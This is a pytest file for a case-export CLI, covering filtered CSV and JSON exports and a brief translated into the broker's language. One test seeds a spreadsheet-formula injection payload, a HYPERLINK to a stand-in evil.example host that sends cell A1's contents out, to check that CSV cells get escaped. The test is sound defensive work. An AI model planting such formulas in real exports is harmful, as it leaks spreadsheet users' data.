"""Brokers export cases with filters and read a brief in their own language."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest

from catalog.db import make_engine, make_session_factory, upgrade
from catalog.models import Case, Conversation
from ops.cli import main


@pytest.fixture
def database(tmp_path):
    url = f"sqlite:///{tmp_path / 'cases.sqlite3'}"
    engine = make_engine(url)
    upgrade(engine)
    with make_session_factory(engine).begin() as session:
        for i, (country, need, status, day) in enumerate([
                ("MA", "funding", "new", 1), ("TN", "consultancy", "new", 5),
                ("MA", "consultancy", "closed", 9)]):
            session.add(Conversation(id=f"c{i}", channel="web"))
            session.flush()
            session.add(Case(reference=f"IM-00000{i}", conversation_id=f"c{i}", status=status,
                             channel="web", language="fr", org_name=f"Coop {i}",
                             legal_form="cooperative", country=country, need_category=need,
                             members=10 + i, amount=Decimal("20000") if need == "funding"
                             else None, currency="MAD" if need == "funding" else None,
                             email=f"coop{i}@example.org", original_words=["Bonjour", "Coop"],
                             created_at=dt.datetime(2026, 11, day, 10, tzinfo=dt.UTC)))
    engine.dispose()
    return url


def test_csv_export_with_filters(database, capsys):
    assert main(["cases", "--database", database, "export", "--country", "ma",
                 "--status", "new"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["reference"] for r in rows] == ["IM-000000"]
    assert rows[0]["amount"] == "20000.00" and rows[0]["currency"] == "MAD"
    assert rows[0]["original_words"] == "Bonjour | Coop"


def test_json_export_by_need_and_date(database, capsys):
    assert main(["cases", "--database", database, "export", "--format", "json", "--need",
                 "consultancy", "--since", "2026-11-02", "--until", "2026-11-08"]) == 0
    records = json.loads(capsys.readouterr().out)
    assert [r["reference"] for r in records] == ["IM-000001"]
    assert records[0]["country"] == "TN" and records[0]["members"] == 11


def test_brief_in_the_brokers_language(database, capsys):
    assert main(["cases", "--database", database, "brief", "IM-000000", "--lang", "es"]) == 0
    brief = json.loads(capsys.readouterr().out)
    assert brief["structured"]["legal_form"] == "cooperative"
    assert "Marruecos" in brief["summary"]
    assert brief["original_words"] == ["Bonjour", "Coop"]
    assert main(["cases", "--database", database, "brief", "IM-999999"]) == 1


def test_csv_cells_that_spreadsheets_would_evaluate_are_written_as_text(database, capsys):
    engine = make_engine(database)
    with make_session_factory(engine).begin() as session:
        session.add(Conversation(id="c9", channel="telegram"))
        session.flush()
        session.add(Case(reference="IM-00000009", conversation_id="c9", status="new",
                         channel="telegram", language="en",
                         org_name='=HYPERLINK("http://evil.example/?d="&A1,"Open")',
                         contact_name="@admin", phone="+21612345678", city="\tSfax",
                         need_description="-2+3 olive presses\r\nand more",
                         original_words=["=1+1", "hello"],
                         created_at=dt.datetime(2026, 11, 20, tzinfo=dt.UTC)))
    engine.dispose()
    assert main(["cases", "--database", database, "export", "--since", "2026-11-20"]) == 0
    out = capsys.readouterr().out
    [row] = list(csv.DictReader(io.StringIO(out, newline="")))
    assert row["org_name"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Open")'
    assert row["contact_name"] == "'@admin" and row["phone"] == "'+21612345678"
    assert row["city"] == "'\tSfax"
    assert row["need_description"] == "'-2+3 olive presses\r\nand more"
    assert row["original_words"] == "'=1+1 | hello"
    assert all(cell[:1] not in "=+-@\t\r" or cell == "" for cell in row.values())
    # JSON is data, not a sheet: it keeps the values as they are.
    assert main(["cases", "--database", database, "export", "--format", "json",
                 "--since", "2026-11-20"]) == 0
    [record] = json.loads(capsys.readouterr().out)
    assert record["org_name"].startswith("=HYPERLINK") and record["phone"] == "+21612345678"
